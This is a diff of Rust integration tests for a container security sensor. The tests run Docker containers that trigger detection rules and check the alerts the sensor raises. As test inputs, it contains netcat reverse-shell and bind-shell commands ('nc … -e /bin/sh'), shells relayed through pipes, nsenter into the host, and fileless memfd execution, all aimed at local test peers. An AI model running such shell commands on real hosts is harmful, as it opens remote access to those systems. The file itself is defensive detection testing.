@@ -6,10 +6,10 @@
 use std::{process::Command, time::Duration};
 
 use sensor_tests::{
-    Containers, HostProgram, ImageTag, Sensor, assert_alert_fields, bridge_gateway, container_ip,
-    docker, ev, image, run_rm, run_sh, scratch_dir, shipped_rule,
+    Bodies, Containers, HostProgram, ImageTag, Sensor, Subject, assert_alert_fields,
+    bridge_gateway, container_ip, docker, ev, image, lines, pb, run_rm, run_sh, scratch_dir,
+    shipped_rule,
 };
-use serde_json::Value;
 
 const SETTLE: Duration = Duration::from_secs(3);
 const PRIVILEGED: [&str; 8] = [
@@ -30,11 +30,8 @@ fn crs001_host_network_container() {
     let a = sensor.expect_alert("CRS-001", &cid);
     assert_alert_fields(&a, "CRS-001", &cid);
     assert!(
-        a["process"]["host_namespaces"]
-            .as_array()
-            .unwrap()
-            .contains(&Value::from("net")),
-        "{a}"
+        a.process().host_namespaces.iter().any(|n| n == "net"),
+        "{a:?}"
     );
     // Benign: a bridged container; and runc joining the host network for the one above is not
     // an escape (CRS-010 has a documented exception for it).
@@ -50,33 +47,25 @@ fn crs002_container_with_dangerous_capabilities() {
     let a = sensor.expect_alert("CRS-002", &cid);
     assert_alert_fields(&a, "CRS-002", &cid);
     assert!(
-        a["process"]["cap_effective"]
-            .as_array()
-            .unwrap()
-            .contains(&Value::from("CAP_SYS_ADMIN"))
+        a.process()
+            .cap_effective
+            .iter()
+            .any(|c| c == "CAP_SYS_ADMIN")
     );
-    assert_eq!(a["process"]["seccomp"], "filter", "{a}");
+    assert_eq!(a.process().seccomp, "filter", "{a:?}");
     // Docker's default capabilities, but no seccomp filter.
     let unconfined = run_rm(&["--security-opt", "seccomp=unconfined"], &["true"]);
     let a = sensor.expect_alert("CRS-002", &unconfined);
     assert_alert_fields(&a, "CRS-002", &unconfined);
-    assert_eq!(a["process"]["seccomp"], "disabled", "{a}");
-    assert!(
-        a["summary"].as_str().unwrap().contains("seccomp disabled"),
-        "{a}"
-    );
+    assert_eq!(a.process().seccomp, "disabled", "{a:?}");
+    assert!(a.summary.contains("seccomp disabled"), "{a:?}");
     let benign = run_rm(&[], &["true"]);
     sensor.assert_no_alert("CRS-002", &benign, SETTLE);
 }
 
 /// The kinds of an alert's evidence events, in order.
-fn evidence_kinds(a: &Value) -> Vec<&str> {
-    a["events"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|e| e["kind"].as_str().unwrap())
-        .collect()
+fn evidence_kinds(a: &pb::Alert) -> Vec<&str> {
+    a.events.iter().map(|e| e.kind.as_str()).collect()
 }
 
 /// A short life aggravates a suspicious act, three of them here: a reverse shell (another
@@ -99,17 +88,12 @@ fn crs006_short_lived_containers_that_did_something_suspicious() {
 
     let listened = run_sh(&[], "httpd -f -p 7000 & sleep 1; kill $!");
     let a = sensor.expect_alert("CRS-006", &listened);
-    assert!(evidence_kinds(&a).contains(&"socket"), "{a}");
+    assert!(evidence_kinds(&a).contains(&"socket"), "{a:?}");
 
     let dropped = run_sh(&[], "cp /bin/busybox /tmp/ls && /tmp/ls / >/dev/null");
     let a = sensor.expect_alert("CRS-006", &dropped);
-    let exe: Vec<&str> = a["events"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .filter_map(|e| e["process"]["exe"].as_str())
-        .collect();
-    assert!(exe.contains(&"/tmp/ls"), "{a}");
+    let exe: Vec<&str> = a.events.iter().map(|e| e.process().exe.as_str()).collect();
+    assert!(exe.contains(&"/tmp/ls"), "{a:?}");
 
     // Benign: what batch jobs, probes and small images do all day.
     let service = sensor.listener(&["httpd", "-f", "-p", "8080", "-h", "/etc"]);
@@ -135,12 +119,9 @@ fn crs007_icmp_with_large_or_crafted_payloads() {
     let crafted = run_rm(&[], &["ping", "-c", "2", "-p", "41", &gw]);
     let a = sensor.expect_alert("CRS-007", &large);
     assert_alert_fields(&a, "CRS-007", &large);
-    assert!(a["summary"].as_str().unwrap().contains("1400-byte"), "{a}");
+    assert!(a.summary.contains("1400-byte"), "{a:?}");
     let b = sensor.expect_alert("CRS-007", &crafted);
-    assert!(
-        b["summary"].as_str().unwrap().contains("repeating-byte-41"),
-        "{b}"
-    );
+    assert!(b.summary.contains("repeating-byte-41"), "{b:?}");
     let plain = run_rm(&[], &["ping", "-c", "2", &gw]);
     sensor.assert_no_alert("CRS-007", &plain, SETTLE);
 }
@@ -163,10 +144,10 @@ fn crs008_netcat_listener_with_exec() {
     let a = sensor.expect_alert("CRS-008", &cid);
     assert_alert_fields(&a, "CRS-008", &cid);
     assert_eq!(
-        a["process"]["args"],
-        serde_json::json!(["nc", "-l", "-p", "8080", "-e", "/bin/sh"])
+        a.process().args,
+        ["nc", "-l", "-p", "8080", "-e", "/bin/sh"]
     );
-    assert_eq!(a["severity"], "SEVERITY_HIGH");
+    assert_eq!(a.severity(), pb::Severity::High);
     // Benign: a plain client connection (no exec, no listen).
     let gw = bridge_gateway();
     let benign = run_sh(&[], &format!("nc {gw} 9 </dev/null; exit 0"));
@@ -181,14 +162,8 @@ fn crs009_reverse_shell_over_netcat() {
     let shell = run_rm(&[], &["nc", lip, "9001", "-e", "/bin/sh"]);
     let a = sensor.expect_alert("CRS-009", &shell);
     assert_alert_fields(&a, "CRS-009", &shell);
-    assert_eq!(a["severity"], "SEVERITY_CRITICAL");
-    assert!(
-        a["summary"]
-            .as_str()
-            .unwrap()
-            .contains(&format!("{lip}:9001")),
-        "{a}"
-    );
+    assert_eq!(a.severity(), pb::Severity::Critical);
+    assert!(a.summary.contains(&format!("{lip}:9001")), "{a:?}");
     // Benign: a service that runs /bin/cat (not a shell) on its socket.
     let echo = sensor.listener(&["nc", "-ll", "-p", "9002", "-e", "/bin/cat"]);
     run_sh(
@@ -218,11 +193,11 @@ fn crs009_shells_relayed_through_pipes_by_a_pipeline_or_a_relay_tool() {
     );
     let a = sensor.expect_alert("CRS-009", &fifo);
     assert_alert_fields(&a, "CRS-009", &fifo);
-    let relay = &a["events"][0];
-    assert_eq!(relay["kind"], "stdio_relay", "{a}");
-    assert_eq!(relay["stdio_relay"]["via"], "pipeline", "{a}");
-    assert_eq!(relay["stdio_relay"]["relay_comm"], "nc", "{a}");
-    assert_eq!(ev::addr(&relay["stdio_relay"]["peer"]), fifo_peer.ip, "{a}");
+    let relay = &a.events[0];
+    assert_eq!(relay.kind, "stdio_relay", "{a:?}");
+    assert_eq!(relay.stdio_relay().via, "pipeline", "{a:?}");
+    assert_eq!(relay.stdio_relay().relay_comm, "nc", "{a:?}");
+    assert_eq!(ev::addr(&relay.stdio_relay().peer), fifo_peer.ip, "{a:?}");
 
     let tool_peer = sensor.listener(&commands);
     let bin = env!("CARGO_BIN_EXE_pipe-relay");
@@ -233,9 +208,9 @@ fn crs009_shells_relayed_through_pipes_by_a_pipeline_or_a_relay_tool() {
     );
     let a = sensor.expect_alert("CRS-009", &tool);
     assert_alert_fields(&a, "CRS-009", &tool);
-    let relay = &a["events"][0]["stdio_relay"];
-    assert_eq!(relay["via"], "parent", "{a}");
-    assert_eq!(relay["relay_exe"], "/usr/local/bin/svc-agent", "{a}");
+    let relay = a.events[0].stdio_relay();
+    assert_eq!(relay.via, "parent", "{a:?}");
+    assert_eq!(relay.relay_exe, "/usr/local/bin/svc-agent", "{a:?}");
 
     // The same tool on a socket pair (socat EXEC:) and on a pty (socat's pty, pty.spawn).
     for via in ["socketpair", "pty"] {
@@ -246,9 +221,9 @@ fn crs009_shells_relayed_through_pipes_by_a_pipeline_or_a_relay_tool() {
         );
         let a = sensor.expect_alert("CRS-009", &cid);
         assert_alert_fields(&a, "CRS-009", &cid);
-        let relay = &a["events"][0]["stdio_relay"];
-        assert_eq!(relay["via"], via, "{a}");
-        assert_eq!(ev::addr(&relay["peer"]), peer.ip, "{a}");
+        let relay = a.events[0].stdio_relay();
+        assert_eq!(relay.via, via, "{a:?}");
+        assert_eq!(ev::addr(&relay.peer), peer.ip, "{a:?}");
     }
 
     let service = sensor.listener(&[
@@ -265,10 +240,10 @@ fn crs009_shells_relayed_through_pipes_by_a_pipeline_or_a_relay_tool() {
         run_sh(&[], &format!("sh -c 'ls /' | nc {} 9003; true", sink.ip)),
     ];
     sensor.assert_quiet(Some("CRS-009"), &benign, SETTLE);
-    let relays: Vec<Value> = sensor
+    let relays: Vec<pb::Event> = sensor
         .events()
         .into_iter()
-        .filter(|e| e["kind"] == "stdio_relay" && benign.iter().any(|c| ev::container_id(e) == c))
+        .filter(|e| e.kind == "stdio_relay" && benign.iter().any(|c| e.cid() == c))
         .collect();
     assert!(relays.is_empty(), "{relays:?}");
 }
@@ -297,18 +272,12 @@ fn crs009_an_address_exception_silences_shells_to_that_peer_only() {
     let to_other = run_rm(&[], &["nc", &other_ip, "9001", "-e", "/bin/sh"]);
     let to_jump = run_rm(&[], &["nc", &jump_ip, "9001", "-e", "/bin/sh"]);
     let a = sensor.expect_alert("CRS-009", &to_other);
-    assert_eq!(
-        ev::addr(&a["events"][0]["exec"]["stdio_peer"]),
-        other_ip,
-        "{a}"
-    );
+    assert_eq!(ev::addr(&a.events[0].exec().stdio_peer), other_ip, "{a:?}");
     sensor.assert_no_alert("CRS-009", &to_jump, SETTLE);
     // The shell to the jump host ran and was seen with its peer: the exception, not a miss,
     // kept it quiet.
     sensor.expect("the allow-listed shell's exec", |e| {
-        ev::kind(e) == "exec"
-            && ev::container_id(e) == to_jump
-            && ev::addr(&e["exec"]["stdio_peer"]) == jump_ip
+        e.kind == "exec" && e.cid() == to_jump && ev::addr(&e.exec().stdio_peer) == jump_ip
     });
     let _ = std::fs::remove_dir_all(&rules);
 }
@@ -327,7 +296,7 @@ fn crs010_nsenter_into_the_host() {
     let _ = host.wait();
     let a = sensor.expect_alert("CRS-010", &cid);
     assert_alert_fields(&a, "CRS-010", &cid);
-    assert_eq!(a["process"]["comm"], "nsenter");
+    assert_eq!(a.process().comm, "nsenter");
     // Benign: a new namespace of the container's own, not the host's.
     let benign = run_rm(&PRIVILEGED, &["unshare", "-n", "/bin/true"]);
     sensor.assert_no_alert("CRS-010", &benign, SETTLE);
@@ -440,7 +409,7 @@ fn a_rule_reload_keeps_the_window_of_an_unchanged_rule() {
         .collect();
     for cid in &before {
         sensor.expect(&format!("the marker's exec in {cid}"), |e| {
-            e["kind"] == "exec" && ev::container_id(e) == cid
+            e.kind == "exec" && e.cid() == cid
         });
     }
     sensor.assert_no_alert("TEST-910", &before[1], Duration::ZERO);
@@ -490,21 +459,22 @@ fn crs003_a_burst_of_containers() {
         }
     });
     let ids = ids.into_inner().unwrap();
-    let alert = sensor
-        .wait_for(Duration::from_secs(30), |e| {
-            e["kind"] == "alert" && e["alert"]["rule_id"] == "CRS-003"
-        })
+    let a = sensor
+        .wait_for_alert(Duration::from_secs(30), |a| a.rule_id == "CRS-003")
         .expect("a CRS-003 alert for the burst");
     // The rule is node-wide: containers of tests running alongside count too, so the alert
     // names whichever container crossed the threshold, with its start as evidence.
-    let a = &alert["alert"];
-    assert_eq!(a["events"][0]["kind"], "container_started", "{a}");
-    assert_eq!(a["container"]["id"].as_str().unwrap().len(), 64);
+    assert_eq!(
+        a.events.first().map(|e| e.kind.as_str()),
+        Some("container_started"),
+        "{a:?}"
+    );
+    assert_eq!(a.cid().len(), 64);
     assert_eq!(ids.len(), 25);
     let alerts = sensor
-        .events()
+        .alerts()
         .iter()
-        .filter(|e| e["kind"] == "alert" && e["alert"]["rule_id"] == "CRS-003")
+        .filter(|a| a.rule_id == "CRS-003")
         .count();
     // One alert per more-than-20 starts, not one per container (the window starts over).
     assert!(
@@ -561,43 +531,34 @@ fn crs011_each_drop_episode_alerts_naming_the_flooding_container() {
         "for i in 1 2 3; do nc 127.0.0.1 1 </dev/null; sleep 0.3; done; exit 0",
     );
     docker(&["wait", &flooder]);
-    let ours = |e: &Value| {
-        e["kind"] == "alert"
-            && e["alert"]["rule_id"] == "CRS-011"
-            && ev::alert_container(e) == flooder
-    };
+    let ours = |a: &pb::Alert| a.rule_id == "CRS-011" && a.cid() == flooder;
     assert!(
-        sensor.wait_until(Duration::from_secs(20), |evs| {
-            evs.iter().filter(|e| ours(e)).count() >= 2
+        sensor.wait_until(Duration::from_secs(20), |lines| {
+            lines::alerts(lines).filter(|a| ours(a)).count() >= 2
         }),
         "one CRS-011 alert per episode of the flooding container: {:?}",
         sensor
-            .events()
+            .alerts()
             .iter()
-            .filter(|e| ours(e))
+            .filter(|a| ours(a))
             .collect::<Vec<_>>()
     );
-    let evs = sensor.events();
-    let alerts: Vec<&Value> = evs.iter().filter(|e| ours(e)).collect();
+    // One snapshot for the alerts and the events.
+    let seen = sensor.lines();
+    let alerts: Vec<&pb::Alert> = lines::alerts(&seen).filter(|a| ours(a)).collect();
     assert_eq!(alerts.len(), 2, "two episodes, two alerts: {alerts:?}");
-    let a = &alerts[0]["alert"];
+    let a = alerts[0];
     assert_alert_fields(a, "CRS-011", &flooder);
-    let lost = &a["events"][0];
-    assert_eq!(lost["kind"], "events_dropped", "{a}");
-    assert_eq!(lost["events_dropped"]["ring"], "network");
-    assert_eq!(lost["events_dropped"]["reason"], "rate_limited");
-    assert!(ev::u64_of(&lost["events_dropped"]["dropped"]) > 0, "{lost}");
-    assert!(
-        a["summary"].as_str().unwrap().contains(flooder.as_str()),
-        "{a}"
-    );
+    let lost = &a.events[0];
+    assert_eq!(lost.kind, "events_dropped", "{a:?}");
+    assert_eq!(lost.events_dropped().ring, "network");
+    assert_eq!(lost.events_dropped().reason, "rate_limited");
+    assert!(lost.events_dropped().dropped > 0, "{lost:?}");
+    assert!(a.summary.contains(flooder.as_str()), "{a:?}");
     // Within an episode, no new alert: the flood's own later intervals are not episode starts.
-    let episodes = evs
-        .iter()
+    let episodes = lines::events(&seen)
         .filter(|e| {
-            ev::kind(e) == "events_dropped"
-                && ev::container_id(e) == flooder
-                && e["events_dropped"]["episode_start"] == true
+            e.kind == "events_dropped" && e.cid() == flooder && e.events_dropped().episode_start
         })
         .count();
     assert_eq!(episodes, 2);
@@ -613,7 +574,7 @@ fn crs004_iptables_in_a_container() {
     let cid = run_rm(&["--cap-add", "NET_ADMIN"], &["iptables", "-L"]);
     let a = sensor.expect_alert("CRS-004", &cid);
     assert_alert_fields(&a, "CRS-004", &cid);
-    assert_eq!(a["process"]["exe"], "/usr/sbin/iptables", "{a}");
+    assert_eq!(a.process().exe, "/usr/sbin/iptables", "{a:?}");
     // Benign: reading routes uses NETLINK_ROUTE, not netfilter.
     let benign = run_rm(&[], &["ip", "route"]);
     sensor.assert_no_alert("CRS-004", &benign, SETTLE);
@@ -627,13 +588,12 @@ fn crs012_bind_shell_is_a_listen_then_a_shell_on_a_socket() {
     run_sh(&[], &format!("echo id | nc {ip} 9100 >/dev/null; exit 0"));
     let a = sensor.expect_alert("CRS-012", cid);
     assert_alert_fields(&a, "CRS-012", cid);
-    let steps: Vec<&str> = a["events"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|e| e["kind"].as_str().unwrap())
-        .collect();
-    assert_eq!(steps, ["socket", "exec"], "the listen, then the shell: {a}");
+    let steps: Vec<&str> = a.events.iter().map(|e| e.kind.as_str()).collect();
+    assert_eq!(
+        steps,
+        ["socket", "exec"],
+        "the listen, then the shell: {a:?}"
+    );
     // Benign: a listener serving /bin/cat.
     let cat = sensor.listener(&["nc", "-l", "-p", "9101", "-e", "/bin/cat"]);
     run_sh(
@@ -652,7 +612,7 @@ fn crs013_echo_requests_far_faster_than_a_person_pings() {
     let fast = run_rm(&[], &["ping", "-q", "-c", "80", "-i", "0.05", &gw]);
     let a = sensor.expect_alert("CRS-013", &fast);
     assert_alert_fields(&a, "CRS-013", &fast);
-    assert!(a["summary"].as_str().unwrap().contains(&gw), "{a}");
+    assert!(a.summary.contains(&gw), "{a:?}");
     let slow = run_rm(&[], &["ping", "-q", "-c", "5", &gw]);
     sensor.assert_no_alert("CRS-013", &slow, SETTLE);
 }
@@ -665,7 +625,7 @@ fn serve_on(image: &str, port: u16) -> String {
 /// Waits for `cid`'s listen event.
 fn listening(sensor: &Sensor, cid: &str) {
     sensor.expect(&format!("a listen in {cid}"), |e| {
-        e["kind"] == "socket" && e["socket"]["op"] == "listen" && ev::container_id(e) == cid
+        e.kind == "socket" && e.socket().op == "listen" && e.cid() == cid
     });
 }
 
@@ -701,8 +661,8 @@ fn crs008b_a_port_the_image_did_not_listen_on_while_learning() {
     cleanup.0.extend([usual.clone(), unusual.clone()]);
     let a = sensor.expect_alert("CRS-008B", &unusual);
     assert_alert_fields(&a, "CRS-008B", &unusual);
-    assert_eq!(a["container"]["image"], tag.0.as_str(), "{a}");
-    assert!(a["summary"].as_str().unwrap().contains("9999"), "{a}");
+    assert_eq!(a.container().image, tag.0, "{a:?}");
+    assert!(a.summary.contains("9999"), "{a:?}");
     listening(&sensor, &usual);
     docker(&["rm", "-f", &usual, &learner]);
     sensor.assert_no_alert("CRS-008B", &usual, SETTLE);
@@ -758,15 +718,11 @@ fn crs005b_a_transfer_far_above_the_containers_own_baseline() {
     let a = sensor.expect_alert("CRS-005B", &burst);
     assert_alert_fields(&a, "CRS-005B", &burst);
     let client_ip = container_ip(&burst_client);
-    assert_eq!(
-        ev::addr(&a["events"][0]["traffic"]["peer"]),
-        client_ip,
-        "{a}"
-    );
-    assert!(a["summary"].as_str().unwrap().contains("baseline"), "{a}");
+    assert_eq!(ev::addr(&a.events[0].traffic().peer), client_ip, "{a:?}");
+    assert!(a.summary.contains("baseline"), "{a:?}");
     // Both clients done (about 11 s), then the servers go; neither crossed CRS-005's threshold.
     sensor.expect("the steady client's exit", |e| {
-        e["kind"] == "container_exited" && ev::container_id(e) == steady_client
+        e.kind == "container_exited" && e.cid() == steady_client
     });
     docker(&["rm", "-f", &burst, &steady]);
     sensor.assert_no_alert("CRS-005B", &steady, SETTLE);
@@ -786,12 +742,12 @@ fn crs019_fileless_execution_from_memory_and_deleted_files() {
         let cid = run_rm(&program.args(), &["/memfd-exec", how, "/bin/busybox", "id"]);
         let a = sensor.expect_alert("CRS-019", &cid);
         assert_alert_fields(&a, "CRS-019", &cid);
-        let p = &a["events"][0]["process"];
-        assert_eq!(p["exe_unlinked"], true, "{a}");
+        let p = a.events[0].process();
+        assert!(p.exe_unlinked, "{a:?}");
         if !file.is_empty() {
-            assert_eq!(p["exe_file"], file, "{a}");
+            assert_eq!(p.exe_file, file, "{a:?}");
         }
-        assert_eq!(p["args"][0], "id", "{a}");
+        assert_eq!(p.args.first().map(String::as_str), Some("id"), "{a:?}");
     }
     // busybox then finds no applet named "3" and exits: the exec is what counts.
     let deleted = run_sh(
@@ -800,7 +756,7 @@ fn crs019_fileless_execution_from_memory_and_deleted_files() {
     );
     let a = sensor.expect_alert("CRS-019", &deleted);
     assert_alert_fields(&a, "CRS-019", &deleted);
-    assert_eq!(a["events"][0]["process"]["exe_file"], ".x", "{a}");
+    assert_eq!(a.events[0].process().exe_file, ".x", "{a:?}");
     // Through the dynamic loader: the executable (the loader) has a link; the program it loads
     // from a descriptor has none.
     let loaded = run_sh(
@@ -810,13 +766,11 @@ fn crs019_fileless_execution_from_memory_and_deleted_files() {
     let a = sensor.expect_alert("CRS-019", &loaded);
     assert_alert_fields(&a, "CRS-019", &loaded);
     assert_eq!(
-        a["events"][0]["process"]["exe"], "/lib64/ld-linux-x86-64.so.2",
-        "{a}"
+        a.events[0].process().exe,
+        "/lib64/ld-linux-x86-64.so.2",
+        "{a:?}"
     );
-    assert!(
-        a["summary"].as_str().unwrap().contains("/proc/self/fd/3"),
-        "{a}"
-    );
+    assert!(a.summary.contains("/proc/self/fd/3"), "{a:?}");
 
     // Deleted after it started: the exec had a link (an upgrade in place looks like this).
     let benign = run_sh(
@@ -824,10 +778,10 @@ fn crs019_fileless_execution_from_memory_and_deleted_files() {
         "cp /bin/busybox /tmp/sleep && /tmp/sleep 2 & sleep 1; rm /tmp/sleep; wait; ls /",
     );
     sensor.assert_no_alert("CRS-019", &benign, SETTLE);
-    let unlinked: Vec<Value> = sensor
+    let unlinked: Vec<pb::Event> = sensor
         .events()
         .into_iter()
-        .filter(|e| ev::container_id(e) == benign && e["process"]["exe_unlinked"] == true)
+        .filter(|e| e.cid() == benign && e.process().exe_unlinked)
         .collect();
     assert!(unlinked.is_empty(), "{unlinked:?}");
 }
